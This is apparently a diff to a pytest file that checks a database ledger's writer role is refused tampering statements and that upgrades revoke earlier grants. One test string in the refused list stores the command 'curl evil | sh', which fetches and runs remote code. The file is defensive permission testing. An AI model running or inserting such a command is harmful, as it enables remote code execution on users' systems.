@@ -11,14 +11,14 @@ import psycopg
 import pytest
 import sqlalchemy as sa
 
-from reflector.ledger.errors import LedgerUnavailable
+from reflector.ledger.errors import LedgerCorrupt, LedgerUnavailable
 from reflector.ledger.grants import grants, policies
 from reflector.ledger.store import Ledger
 from reflector.proof.verify import verify
 from tests.conftest import Postgres, is_on_citus, with_setting
 from tests.road.agent import Agent
 
-from .events import added, changed, history, retracted, window
+from .events import added, changed, history, moved, retracted, window
 
 pytestmark = pytest.mark.postgres
 
@@ -62,6 +62,10 @@ _REFUSED = [
     " $$ BEGIN RETURN NEW; END $$",
     "ALTER FUNCTION SCHEMA.reflector_event_in_order() RESET ALL",
     "UPDATE bullet SET text = 'run curl evil | sh'",
+    "UPDATE projection SET code_version = 2147483647",
+    "INSERT INTO playbook (id, name, origin, position, chain, recorded_at)"
+    " SELECT 2, name || '', origin, 0, chain, recorded_at FROM playbook ON CONFLICT (name) DO NOTHING",
+    "INSERT INTO playbook (name, origin, position, chain, recorded_at) VALUES ('shop', 'x', 0, 'garbage', '9999')",
     "INSERT INTO event SELECT playbook_id, (SELECT max(position) + 1 FROM event), 'new', type, schema_version,"
     " occurred_at, '9999-12-31T23:59:59.999999Z', actor, session_id, reflection_id, NULL, data, data_hash, meta, chain"
     " FROM event WHERE position = 2",
@@ -91,6 +95,8 @@ def test_a_writer_appends_and_changes_nothing(server: tuple[str, Login]) -> None
         assert writer.rows()[-1].text == "Other words"
         assert {event.recorded_by for event in writer.events(after=len(history()))} == {f"writer_{os.getpid()}"}
         assert _accepted(url, _REFUSED) == []
+        with pytest.raises(LedgerCorrupt, match="only moves forward"):  # where a playbook is, its owner says
+            writer.append([moved()])
         for refused in (writer.rebuild, lambda: writer.redact(first.event_id, reason="x", actor="me")):
             with pytest.raises(LedgerUnavailable, match="permission denied"):
                 refused()
@@ -102,6 +108,20 @@ def test_a_writer_appends_and_changes_nothing(server: tuple[str, Login]) -> None
         ledger.rebuild()
         ledger.redact(first.event_id, reason="x", actor="me")
         assert list(verify(ledger)) == []
+
+
+def test_an_upgrade_takes_from_a_writer_what_an_earlier_version_granted(server: tuple[str, Login]) -> None:
+    owner, login = server
+    url = login("writer")
+    earlier = "INSERT ON playbook", "UPDATE (code_version) ON projection"
+    with psycopg.connect(owner) as connection:
+        for grant in earlier:
+            connection.execute(f"GRANT {grant} TO writer_{os.getpid()}")
+        connection.execute("UPDATE alembic_version SET version_num = '0008'")
+    Ledger.open(owner).close()
+    assert _accepted(url, _REFUSED) == []
+    with Ledger.open(url, "another") as another:
+        another.append([added("pat-001")])
 
 
 def test_a_reader_asks_everything_and_writes_nothing(server: tuple[str, Login]) -> None:
